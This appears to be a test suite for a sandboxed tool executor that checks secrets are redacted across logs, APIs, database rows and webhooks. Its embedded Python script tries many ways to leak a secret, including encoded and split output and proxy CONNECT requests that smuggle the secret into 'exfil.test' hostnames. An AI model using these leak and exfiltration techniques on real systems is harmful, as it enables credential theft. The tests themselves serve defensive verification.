/**
 * Invariant 12 (secrets stay secret): a step that holds a secret tries every way the adversarial
 * pass found to print it — reversed, upper-cased, with separators, hex, base64/base64url/base32
 * at every alignment, URL-encoded, split across writes, across the 64 KiB pipe chunk, across
 * stdout and stderr — plus credentials of known shapes it was never given as secrets. The steps
 * are real: a signed tool, run by the executor in bubblewrap with the secret injected. Then every
 * way out is scanned for the clear value and each encoding: the events API, the stored step
 * output (API view and raw rows), the audit log's raw rows, and the executor's log lines.
 */
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { buildApi } from '../../src/api/app.ts';
import { type RunningExecutor, startExecutor } from '../../src/executor/executor.ts';
import { WebhookNotifier } from '../../src/notifications/index.ts';
import { ENGINES } from '../support/engines.ts';
import { queueExecution, waitForExecution } from '../support/execution.ts';
import { findLeaks } from '../support/leaks.ts';
import { rawSql } from '../support/raw-db.ts';
import { startTestServer, type TestServer, tempDir } from '../support/server.ts';
import { signManifestFile } from '../support/tools.ts';

const PYTHON = '/usr/bin/python3';

/**
 * Values of known credential shapes, derived from seeds so that neither the manifest nor the
 * audited argv holds them: only the step's output can. The step computes the same in Python.
 */
const digest = (seed: string) => createHash('sha256').update(seed).digest();
const SHAPES = {
  dbPassword: `${digest('db').toString('hex').slice(0, 16)}Qz`,
  awsSecret: digest('aws').toString('base64').slice(0, 40),
  awsKeyId: `AKIA${digest('akia').toString('hex').slice(0, 16).toUpperCase()}`,
  apiKeySecret: digest('csk').toString('base64url'),
};

// The step's program.
const SCRIPT = String.raw`
import base64, hashlib, json, os, sys, time, urllib.parse
s = os.environ["LEAK_SECRET"]
b = s.encode()
mode = sys.argv[1]
def say(label, text, stream=sys.stdout):
    stream.write(label + ": " + text + "\n"); stream.flush()
def b32(x): return base64.b32encode(x).decode()
def d(seed): return hashlib.sha256(seed.encode()).digest()
if mode == "plain":
    for label, t in [("plain", s), ("upper", s.upper()), ("lower", s.lower()), ("reversed", s[::-1]),
                     ("reversed-upper", s[::-1].upper()), ("json", json.dumps(s)), ("repr", repr(s))]:
        say(label, t)
elif mode == "encodings":
    h = b.hex()
    pairs = [h[i:i + 2] for i in range(0, len(h), 2)]
    items = [("hex", h), ("HEX", h.upper()), ("hex-colons", ":".join(pairs)), ("hex-x", "".join("\\x" + p for p in pairs)),
             ("hex-0x", ", ".join("0x" + p for p in pairs)), ("percent-all", "".join("%" + p.upper() for p in pairs)),
             ("b64", base64.b64encode(b).decode()), ("b64-nopad", base64.b64encode(b).decode().rstrip("=")),
             ("b64url", base64.urlsafe_b64encode(b).decode()), ("b64url-nopad", base64.urlsafe_b64encode(b).decode().rstrip("=")),
             ("b32", b32(b)), ("b32-nopad", b32(b).rstrip("=")), ("b32-lower", b32(b).lower()),
             ("quote", urllib.parse.quote(s)), ("quote-all", urllib.parse.quote(s, safe="")), ("quote-plus", urllib.parse.quote_plus(s))]
    for k in range(3): items.append(("b64-at-%d" % k, base64.b64encode(b"x" * k + b + b"-trailer").decode()))
    for k in range(3): items.append(("b64url-at-%d" % k, base64.urlsafe_b64encode(b"y" * (k + 4) + b + b"~").decode()))
    for k in range(5): items.append(("b32-at-%d" % k, b32(b"z" * k + b + b"#")))
    items.append(("b64-wrapped", base64.encodebytes(b"w" * 40 + b + b"q" * 40).decode()))
    for label, t in items: say(label, t)
elif mode == "separators":
    for label, sep in [("dash", "-"), ("space", " "), ("dot", "."), ("comma", ", ")]:
        say(label, sep.join(s)); say(label + "-reversed", sep.join(s[::-1]))
    say("list", repr(list(s)))
    say("upper-pipes", "|".join(s.upper()))
    for c in s: print(c, flush=True)
elif mode == "split-writes":
    half = len(s) // 2
    sys.stdout.write("halves: " + s[:half]); sys.stdout.flush(); time.sleep(0.3)
    sys.stdout.write(s[half:] + "\n"); sys.stdout.flush()
    sys.stdout.write("chars: ")
    for c in s: sys.stdout.write(c); sys.stdout.flush(); time.sleep(0.01)
    sys.stdout.write("\nb64 in fives: ")
    e = base64.b64encode(b).decode()
    for i in range(0, len(e), 5): sys.stdout.write(e[i:i + 5]); sys.stdout.flush(); time.sleep(0.01)
    sys.stdout.write("\n" + "." * (65536 - 3) + s + "\n"); sys.stdout.flush()
elif mode == "split-streams":
    half = len(s) // 2
    sys.stdout.write(s[:half] + "\n"); sys.stdout.flush()
    sys.stderr.write(s[half:] + "\n"); sys.stderr.flush()
    sys.stderr.write("late " + s[:half]); sys.stderr.flush(); time.sleep(0.05)
    sys.stdout.write(s[half:] + " early\n"); sys.stdout.flush()
    t = len(s) // 3
    sys.stdout.write(s[:t]); sys.stdout.flush(); sys.stderr.write(s[t:2 * t]); sys.stderr.flush(); sys.stdout.write(s[2 * t:] + "\n")
elif mode == "shapes":
    pw = d("db").hex()[:16] + "Qz"
    say("dsn", "postgres://app:" + pw + "@db.internal:5432/prod")
    sys.stdout.write("mysql://root:" + pw[:5]); sys.stdout.flush(); time.sleep(0.05)
    sys.stdout.write(pw[5:] + "@10.0.0.5/x\n"); sys.stdout.flush()
    say("aws", base64.b64encode(d("aws")).decode()[:40])
    say("aws-id", "AKIA" + d("akia").hex()[:16].upper(), sys.stderr)
    say("api-key", "csk_" + "0123456789abcdefghijklmnop" + "_" + base64.urlsafe_b64encode(d("csk")).decode().rstrip("="))
elif mode == "egress":
    import socket
    proxy = urllib.parse.urlparse(os.environ["HTTP_PROXY"])
    for target in [urllib.parse.quote(s, safe=""), b32(b).rstrip("=").lower() + ".exfil.test:443", b.hex()[:60] + "." + b.hex()[60:] + ".exfil.test:443"]:
        c = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
        c.sendall(("CONNECT " + target + " HTTP/1.1\r\nHost: x\r\n\r\n").encode())
        print("proxy said: " + c.recv(200).decode(errors="replace").splitlines()[0], flush=True)
        c.close()
elif mode == "crash":
    raise RuntimeError("could not log in with " + s + " (" + base64.b64encode(b).decode() + ")")
`;

const MODES = ['plain', 'encodings', 'separators', 'split-writes', 'split-streams', 'shapes', 'egress', 'crash'] as const;

/** The program lives in a world-readable directory the profile binds read-only (argv elements are capped at 4 KiB). */
function writeLeakTool(dir: string, scriptDir: string): void {
  const sha = createHash('sha256')
    .update(readFileSync(realpathSync(PYTHON)))
    .digest('hex');
  const script = join(scriptDir, 'leak.py');
  writeFileSync(script, SCRIPT, { mode: 0o644 });
  const file = join(dir, 'tools', 'leak.yaml');
  writeFileSync(
    file,
    `apiVersion: countersign/v1
kind: Tool
name: leak
version: 1.0.0
executable: { path: ${PYTHON}, sha256: ${sha} }
sandbox:
  secrets: [{ name: LEAK_SECRET, from: "env:LEAK_SOURCE" }]
  # The way out exists (a forwarder to the executor's proxy), so denied destinations are audited.
  egress: ["example.com:443"]
  readOnlyPaths: [${scriptDir}]
actions:
  print:
    argv: ["${script}", "{{mode}}"]
    input: { properties: { mode: { type: string, enum: ${JSON.stringify(MODES)} } }, required: [mode] }
    risk: low
`,
  );
  signManifestFile(dir, file);
}

/** Every string inside a JSON-like value, one per line (what a reader of that sink sees). */
function strings(value: unknown): string {
  if (typeof value === 'string') {
    try {
      const parsed: unknown = JSON.parse(value);
      if (parsed !== null && typeof parsed === 'object') return `${value}\n${strings(parsed)}`;
    } catch {
      // not JSON: the text itself
    }
    return value;
  }
  if (Array.isArray(value)) return value.map(strings).join('\n');
  if (value !== null && typeof value === 'object') {
    return Object.entries(value)
      .map(([k, v]) => `${k}\n${strings(v)}`)
      .join('\n');
  }
  return String(value);
}

for (const engine of ENGINES) {
  describe(`secrets that leave a step, on ${engine.name} (invariant 12)`, { skip: engine.skip }, () => {
    // Mixed case, digits, and the characters URL and JSON encodings change.
    const secret = `Lk9-${randomBytes(18).toString('base64')}/x+Q`;
    let s: TestServer;
    let exe: RunningExecutor;
    const logs: string[] = [];
    let executionId: string;
    let view: any;

    const scriptDir = tempDir('cs-leak-');

    before(async () => {
      chmodSync(scriptDir, 0o755);
      s = await startTestServer(engine, { configure: (dir) => writeLeakTool(dir, scriptDir) });
      exe = await startExecutor(s.dir, {
        store: s.ctx.store,
        log: (line) => logs.push(line),
        env: { ...process.env, LEAK_SOURCE: secret },
      });
      const queued = await queueExecution(
        s,
        MODES.map((mode) => ({ tool: 'leak', action: 'print', input: { mode } })),
      );
      executionId = queued.executionId;
      view = await waitForExecution(s, executionId, 120_000);
    });
    after(async () => {
      await exe?.stop();
      await s?.close();
      rmSync(scriptDir, { recursive: true, force: true });
    });

    it('ran every step for real in the sandbox, and each printed what it was told to', () => {
      assert.equal(view.status, 'failed', JSON.stringify(view.steps.map((x: any) => [x.status, x.error])));
      const [plain, encodings, separators, splitWrites, splitStreams, shapes, egress, crash] = view.steps;
      for (const step of view.steps.slice(0, -1)) assert.equal(step.exitCode, 0, step.stderr);
      assert.equal(crash.exitCode, 1);
      assert.match(plain.stdout, /^plain: \[REDACTED\]$/m);
      assert.match(plain.stdout, /^reversed-upper: \[REDACTED\]$/m);
      assert.match(encodings.stdout, /^b32-at-4: .*\[REDACTED\]/m);
      assert.match(separators.stdout, /^list: .*\[REDACTED\]/m);
      assert.match(splitWrites.stdout, /^chars: .*\[REDACTED\]/m);
      assert.ok(splitWrites.stdout.length > 65536, 'the long line crossed the 64 KiB pipe chunk');
      assert.match(splitStreams.stderr, /\[REDACTED\]/);
      assert.match(shapes.stdout, /^dsn: postgres:\/\/app:\[REDACTED\]@db\.internal:5432\/prod$/m);
      assert.match(shapes.stdout, /^mysql:\/\/root:\[REDACTED\]@10\.0\.0\.5\/x$/m);
      assert.match(shapes.stdout, /^aws: \[REDACTED\]$/m);
      assert.match(shapes.stderr, /^aws-id: \[REDACTED\]$/m);
      assert.match(shapes.stdout, /^api-key: csk_0123456789abcdefghijklmnop_\[REDACTED\]$/m);
      assert.match(egress.stdout, /^proxy said: HTTP\/1\.1 (400|403)/m);
      assert.match(crash.stderr, /RuntimeError: could not log in with \[REDACTED\] \(\[REDACTED\]\)/);
    });

    const sinks: Record<string, () => Promise<string>> = {
      'the events API': async () => strings((await s.request('GET', `/v1/executions/${executionId}/events`)).body),
      'the execution view (stored step output)': async () => strings((await s.request('GET', `/v1/executions/${executionId}`)).body),
      'raw execution_steps rows': async () => strings(await rawSql(s, 'select * from execution_steps')),
      'raw execution_events rows': async () => strings(await rawSql(s, 'select * from execution_events')),
      'raw audit_log rows': async () => strings(await rawSql(s, 'select * from audit_log')),
      "the executor's log lines": async () => logs.join('\n'),
    };

    for (const [name, read] of Object.entries(sinks)) {
      it(`leaves no form of the secret and no known credential in ${name}`, async () => {
        const text = await read();
        assert.ok(text.length > 0, `${name} is empty`);
        assert.deepEqual(findLeaks(text, secret), [], `${name} leaks`);
        for (const [shape, value] of Object.entries(SHAPES)) assert.ok(!text.includes(value), `${name} holds ${shape} in clear`);
      });
    }

    it('output events carried the redacted output live (not only the final record)', async () => {
      const events = (await s.request('GET', `/v1/executions/${executionId}/events`)).body.events as any[];
      const output = events.filter((e) => e.type === 'output');
      assert.ok(output.length >= MODES.length, `only ${output.length} output events`);
      assert.ok(output.some((e) => e.data.stream === 'stderr' && e.data.chunk.includes('[REDACTED]')));
      const audit = await rawSql(s, "select details from audit_log where action = 'execution.step'");
      assert.ok(audit.length >= MODES.length * 2, 'each step audited before and after');
      // The step made the audit log carry text of its choosing: denied destinations named after the secret.
      const denials = audit.map((r) => String(r.details)).filter((d) => d.includes('"egress":'));
      assert.ok(denials.length >= 3, denials.join('\n'));
      for (const d of denials) assert.match(d, /\[REDACTED\]/);
    });
  });
}

describe('secrets in the API log and in break-glass notifications (invariant 12)', () => {
  const secret = `Zq7-${randomBytes(18).toString('base64url')}`;
  const csk = `csk_0123456789abcdefghijklmnop_${SHAPES.apiKeySecret}`;
  let s: TestServer;

  before(async () => {
    s = await startTestServer(ENGINES[0]!);
    // What the executor does when a step resolves its secrets; in the embedded default the two
    // processes differ, but the API's own store learns the values it holds the same way.
    s.ctx.store.knownSecrets.add([secret]);
  });
  after(async () => s?.close());

  it('redacts request URLs and errors in the API log lines (pino through Fastify)', async () => {
    const lines: string[] = [];
    const stream = { write: (line: string) => void lines.push(line) };
    const app = await buildApi(s.ctx, {
      bodyLimitBytes: 1024 * 1024,
      trustProxy: false,
      rateLimit: { ...s.ctx.config.rateLimit, enabled: false },
      version: 'test',
      logger: { level: 'info', stream } as unknown as { level: string },
    });
    try {
      const dsn = `postgres://app:${SHAPES.dbPassword}@db.internal/prod`;
      const query = new URLSearchParams({ dsn, k: Buffer.from(secret).toString('hex'), aws: SHAPES.awsSecret, key: csk });
      await app.inject({ method: 'GET', url: `/healthz?${query}` });
      await app.inject({ method: 'GET', url: `/v1/plans/${[...secret].reverse().join('')}`, headers: { authorization: `Bearer ${csk}` } });
    } finally {
      await app.close();
    }
    const text = lines.join('');
    assert.ok(lines.length >= 2, text);
    for (const line of lines) assert.doesNotThrow(() => JSON.parse(line), line);
    assert.match(text, /\[REDACTED\]/);
    assert.deepEqual(findLeaks(decodeURIComponent(text), secret), []);
    // Shapes are recognised as printed (and a credential URL also percent-encoded): see docs/redaction.md.
    for (const [shape, value] of Object.entries(SHAPES)) assert.ok(!text.includes(value), `${shape} logged in clear`);
  });

  it('redacts a credential pasted into a break-glass reason before the webhook gets it', async () => {
    const received: string[] = [];
    const server = createServer((req, res) => {
      let body = '';
      req.on('data', (d) => (body += d));
      req.on('end', () => {
        received.push(body);
        res.end('ok');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = server.address() as AddressInfo;
      const logged: string[] = [];
      const notifier = new WebhookNotifier({ url: `http://127.0.0.1:${port}/hook`, timeoutMs: 5000, log: (l) => logged.push(l) });
      await notifier.notify({
        event: 'override.issue',
        outcome: 'allowed',
        breakGlass: true,
        tenant: 'ten_x',
        override: 'ovr_x',
        actor: 'prn_x',
        environment: 'prod',
        reason: `db down, used postgres://admin:${SHAPES.dbPassword}@db/prod and ${SHAPES.awsKeyId}`,
        at: new Date(0).toISOString(),
        details: { note: `key ${csk}`, nested: [`aws_secret_access_key=${SHAPES.awsSecret}`] },
      });
      assert.equal(received.length, 1, logged.join('\n'));
      const body = JSON.parse(received[0] ?? '');
      assert.equal(body.reason, 'db down, used postgres://admin:[REDACTED]@db/prod and [REDACTED]');
      for (const [shape, value] of Object.entries(SHAPES)) assert.ok(!received[0]?.includes(value), `${shape} sent in clear`);
    } finally {
      server.close();
    }
  });
});
